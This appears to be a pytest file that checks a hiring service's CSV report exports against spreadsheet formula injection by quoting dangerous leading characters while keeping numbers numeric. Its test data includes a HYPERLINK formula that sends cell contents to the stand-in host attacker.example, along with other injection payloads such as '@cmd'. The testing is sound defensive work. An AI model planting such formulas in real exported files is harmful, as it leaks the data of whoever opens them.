"""CSV downloads never hand a spreadsheet a formula (OWASP CSV injection); numbers stay numbers."""

import csv
import io
from datetime import timedelta

import pytest

from service.http.csv_export import csv_response
from service.persistence.base import utcnow
from tests.api.conftest import auth
from tests.factories import ApplicationFactory, RequisitionFactory, UserFactory

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")'


def rows_of(response) -> list[dict[str, str]]:
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


@pytest.mark.parametrize(
    "title", [HYPERLINK, "+SUM(1,2)", "-2+3", "@cmd", "\tindented", "\rreturn"]
)
def test_report_text_that_a_spreadsheet_would_run_is_quoted(client, session, admin, title):
    requisition = RequisitionFactory(title=title)
    ApplicationFactory(
        requisition=requisition, stage="applied", stage_entered_at=utcnow() - timedelta(days=10)
    )
    response = client.get("/api/v1/reports/stuck", headers=auth(admin) | {"Accept": "text/csv"})
    [row] = rows_of(response)
    assert row["requisition_title"] == "'" + title


def test_names_in_a_list_cell_are_quoted(client, session, admin):
    manager = UserFactory(role="hiring_manager", name="=1+1")
    ApplicationFactory(
        requisition=RequisitionFactory(hiring_manager=manager),
        stage="offer",
        stage_entered_at=utcnow() - timedelta(days=10),
    )
    response = client.get("/api/v1/reports/stuck", headers=auth(admin) | {"Accept": "text/csv"})
    [row] = rows_of(response)
    assert row["owners"] == "'=1+1"


def test_a_carriage_return_inside_a_cell_does_not_end_the_row(client, session, admin):
    ApplicationFactory(
        requisition=RequisitionFactory(title="Backend\rEngineer"),
        stage="applied",
        stage_entered_at=utcnow() - timedelta(days=10),
    )
    response = client.get("/api/v1/reports/stuck", headers=auth(admin) | {"Accept": "text/csv"})
    assert '"Backend\rEngineer"' in response.text
    [row] = rows_of(response)
    assert row["requisition_title"] == "Backend\rEngineer"


def test_ordinary_text_and_numbers_are_written_as_they_are(client, session, admin):
    ApplicationFactory(
        requisition=RequisitionFactory(title="Backend Engineer"),
        stage="applied",
        stage_entered_at=utcnow() - timedelta(days=10),
    )
    response = client.get("/api/v1/reports/stuck", headers=auth(admin) | {"Accept": "text/csv"})
    [row] = rows_of(response)
    assert row["requisition_title"] == "Backend Engineer"
    assert float(row["days_over_target"]) > 0


def test_negative_numbers_we_write_stay_numbers_and_negative_text_is_quoted(app):
    with app.test_request_context():
        response = csv_response(
            ("leniency", "count", "note"),
            [{"leniency": -0.5, "count": -3, "note": "-0.5"}],
            "x.csv",
        )
    assert response.get_data(as_text=True) == "leniency,count,note\r\n-0.5,-3,'-0.5\r\n"
